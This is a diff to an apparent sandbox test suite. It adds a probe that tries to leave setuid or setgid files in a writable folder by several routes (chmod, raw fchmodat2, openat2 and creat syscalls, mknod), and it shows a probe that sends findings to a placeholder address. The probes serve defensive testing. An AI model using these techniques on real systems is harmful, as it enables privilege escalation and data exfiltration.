@@ -100,6 +100,49 @@ def changes_what_the_host_reads(about: dict[str, Any]) -> str:
 
 
 @attack
+def leaves_a_program_with_the_rights_of_its_owner(about: dict[str, Any]) -> str:
+    """A file with the bit of setuid in a folder that it may write: whoever runs it is the user of the host, root where
+    that is (CVE-2022-24122 and every sandbox before; systemd's RestrictSUIDSGID)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    x86 = os.uname().machine == "x86_64"
+    done = []
+    for mode in (0o4755, 0o2755, 0o6777):
+        file = Path(about["write"], f"program-{mode:o}")
+        file.write_bytes(b"#!/bin/sh")
+        number = os.open(file, os.O_RDONLY)
+        path = os.fsencode(file)
+        ways = {
+            "chmod": lambda file=file, mode=mode: file.chmod(mode),
+            "fchmod": lambda number=number, mode=mode: os.fchmod(number, mode),
+            "fchmodat2": lambda path=path, mode=mode: libc.syscall(452, -100, path, mode, 0),
+            "open": lambda path=path, mode=mode: os.open(path + b"-open", os.O_CREAT | os.O_WRONLY, mode),
+            "mknod": lambda path=path, mode=mode: os.mknod(path + b"-node", mode | 0o100000),
+            "openat2": lambda path=path, mode=mode: libc.syscall(
+                437, -100, path + b"-2", (ctypes.c_uint64 * 3)(0o101, mode, 0), 24
+            ),
+            **({"creat": lambda path=path, mode=mode: libc.syscall(85, path + b"-creat", mode)} if x86 else {}),
+            **(
+                {"open, by number": lambda path=path, mode=mode: libc.syscall(2, path + b"-3", 0o101, mode)}
+                if x86
+                else {}
+            ),
+        }
+        for name, way in ways.items():
+            try:
+                got = way()
+            except OSError:
+                continue
+            if isinstance(got, int) and got > 2 and name not in ("chmod", "fchmod"):
+                os.close(got)
+        os.close(number)
+    for file in Path(about["write"]).glob("program-*"):
+        if file.stat().st_mode & 0o6000:
+            done.append(file.name)
+        file.unlink()
+    return f"left: {done}" if done else "held"
+
+
+@attack
 def connects_by_address(about: dict[str, Any]) -> str:
     """Sends what it found to an address."""
     return _http("http://192.0.2.7/")
